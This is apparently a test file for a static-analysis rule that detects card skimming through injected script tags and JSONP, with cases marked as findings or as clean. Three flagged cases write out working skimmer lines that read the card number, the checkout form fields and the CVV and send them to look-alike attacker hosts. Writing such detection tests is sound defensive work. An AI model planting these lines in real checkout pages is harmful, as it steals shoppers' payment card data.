// Tests for card-data-via-script-injection: card, form or key data in the URL of an injected
// <script> or a dynamic import() to an untrusted host (JSONP-style). Findings are reported on
// the src assignment / import. Sections are separate scripts.

var s = document.createElement('script');
var num = document.querySelector('#cc_number').value;
// ruleid: card-data-via-script-injection
s.src = 'https://cdn-analytics-metrics.top/jsonp?callback=cb&d=' + btoa(num);
document.head.appendChild(s);

// ---
// setAttribute on a created script, serialised form, look-alike CDN.
var loader = document.createElement('script');
var payload = encodeURIComponent(JSON.stringify(jQuery('#checkout').serializeArray()));
// ruleid: card-data-via-script-injection
loader.setAttribute('src', 'https://jsdellvr.com/npm/lib@1/x.js?q=' + payload);
document.body.appendChild(loader);

// ---
// A JSONP helper: the URL arrives as a function parameter.
function jsonp(url) {
  var tag = document.createElement('script');
  // ruleid: card-data-via-script-injection
  tag.src = url;
  document.head.appendChild(tag);
}
var cvv = document.getElementById('cvv').value;
jsonp('https://secure-paygate.xyz/j?cb=_x&c=' + cvv);

// ---
// A first-party script (relative URL) with a card-brand hint.
var pan = document.getElementById('card-number').value;
var brandScript = document.createElement('script');
// ok: card-data-via-script-injection
brandScript.src = '/static/js/card-brand.js?bin=' + pan.slice(0, 6);

// ---
// A processor's SDK loaded by URL, no card data.
var sdk = document.createElement('script');
// ok: card-data-via-script-injection
sdk.src = 'https://js.braintreegateway.com/web/3.97.2/js/client.min.js';

// ---
// A third-party widget loaded from an unknown host: no card data in the URL.
var widget = document.createElement('script');
// ok: card-data-via-script-injection
widget.src = 'https://widget.reviews-vendor.example.com/loader.js?shop=' + encodeURIComponent(location.hostname);
